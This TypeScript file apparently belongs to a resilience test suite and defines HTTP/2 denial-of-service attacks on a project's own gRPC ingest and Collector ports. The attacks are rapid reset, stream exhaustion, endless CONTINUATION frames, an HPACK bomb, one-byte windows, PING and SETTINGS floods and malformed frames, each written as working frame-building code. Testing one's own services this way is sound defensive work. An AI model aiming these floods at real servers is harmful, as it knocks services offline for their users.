/** Attacks by frames of HTTP/2, on the ports of gRPC. */
import { ports } from "../../../configs/topology/ports";
import { flags, frame, grpcHeaders, headerBlock, hello, onConnections, reset, settings, types, windowUpdate } from "../http2";
import type { Row, Victim } from "../row";
import type { Seen, Wire } from "../wire";

const { otlpGrpc } = ports.collector;
const path = "/opentelemetry.proto.collector.trace.v1.TraceService/Export";
const targets = ["ingest", "otel-collector"] as const;
const seconds = 8;

/** The stream that a client opens as its n-th. */
const stream = (n: number) => 2 * n + 1;

const open = (n: number, token?: string) => frame(types.headers, flags.endHeaders, stream(n), grpcHeaders(path, token));

/** What may come of a connection: answers, resets, and its end, with or without a reason. */
const answers = /^(answered|reset|closed|open|goaway \d+)$/;

const row = (
  id: string,
  what: string,
  write: (victim: Victim) => (wire: Wire, round: number) => void,
  { connections = 20, first = hello() } = {},
): Row => ({
  id,
  what,
  targets,
  answers,
  attack: (victim): Promise<Seen> => onConnections(victim.at("ingest", otlpGrpc), connections, seconds, write(victim), first),
});

export const http2Rows: readonly Row[] = [
  row(
    "streams",
    "300 connections of 100 streams each, without a token, that never end their requests",
    () => (wire, round) => {
      if (round === 0) wire.send(Buffer.concat(Array.from({ length: 100 }, (_, n) => open(n))));
    },
    { connections: 300 },
  ),
  row(
    "streams-with-token",
    "20 connections of 100 streams each, with a token, that never end messages of 4 MB",
    ({ token }) =>
      (wire, round) => {
        if (round === 0) wire.send(Buffer.concat(Array.from({ length: 100 }, (_, n) => open(n, token))));
        // Each stream may send what its window has.
        const message = Buffer.from([0, 0x00, 0x3d, 0x09, 0x00]);
        if (round < 100) wire.send(frame(types.data, 0, stream(round), Buffer.concat([message, Buffer.alloc(16_000)])));
      },
  ),
  row("rapid-reset", "streams that are opened and reset at once, 100 a time, without a token", () => (wire, round) => {
    const pairs = Array.from({ length: 100 }, (_, n) => [open(round * 100 + n), reset(stream(round * 100 + n))]).flat();
    wire.send(Buffer.concat(pairs));
  }),
  row("rapid-reset-with-token", "the same with a token, so that they reach the Collector", ({ token }) => (wire, round) => {
    const pairs = Array.from({ length: 100 }, (_, n) => [open(round * 100 + n, token), reset(stream(round * 100 + n))]).flat();
    wire.send(Buffer.concat(pairs));
  }),
  row("continuation", "headers that CONTINUATION frames never end", () => (wire, round) => {
    const part = headerBlock([["x-a", "a".repeat(4000)]]);
    const begin = frame(types.headers, 0, 1, grpcHeaders(path));
    const frames = Array.from({ length: 20 }, () => frame(types.continuation, 0, 1, part));
    wire.send(Buffer.concat([...(round === 0 ? [begin] : []), ...frames]));
  }),
  row("hpack-bomb", "a header of 4 KB that is named 4,000 times by a byte each", () => (wire, round) => {
    const kept = headerBlock([["x-bomb", "b".repeat(3900)]], true);
    if (round === 0) wire.send(frame(types.headers, flags.endHeaders | flags.endStream, 1, Buffer.concat([grpcHeaders(path), kept])));
    // The first entry of the table that is the connection's own is number 62.
    const named = Buffer.alloc(4000, 0x80 | 62);
    wire.send(frame(types.headers, flags.endHeaders | flags.endStream, stream(round + 1), Buffer.concat([grpcHeaders(path), named])));
  }),
  row(
    "tiny-windows",
    "windows of one byte, so that no answer can be sent",
    () => (wire, round) => {
      if (round < 100) wire.send(frame(types.headers, flags.endHeaders | flags.endStream, stream(round), grpcHeaders(path)));
      wire.send(windowUpdate(0, 1));
    },
    { connections: 200, first: hello([4, 1], [3, 0]) },
  ),
  row("pings", "PING frames, 2,000 at a time", () => (wire) => {
    wire.send(Buffer.concat(Array.from({ length: 2000 }, () => frame(types.ping, 0, 0, Buffer.alloc(8)))));
  }),
  row("settings", "SETTINGS frames, 2,000 at a time, of a header table that grows and shrinks", () => (wire) => {
    wire.send(Buffer.concat(Array.from({ length: 2000 }, (_, n) => settings([1, n % 2 === 0 ? 65_536 : 0]))));
  }),
  row(
    "odd-frames",
    "frames of unknown types, of streams that do not exist, of lengths beyond the limit, and priorities in a circle",
    () => (wire, round) => {
      wire.send(frame(200 + (round % 50), 0xff, 0, Buffer.alloc(100)));
      wire.send(frame(2, 0, 1, Buffer.from([0, 0, 0, 1, 255])));
      if (round % 4 === 1) wire.send(windowUpdate(0, 0x7fffffff));
      if (round % 4 === 2) wire.send(frame(types.data, 0, 99, Buffer.alloc(10)));
      if (round % 4 === 3) wire.send(frame(types.data, 0, 1, Buffer.alloc(70_000)));
    },
  ),
];
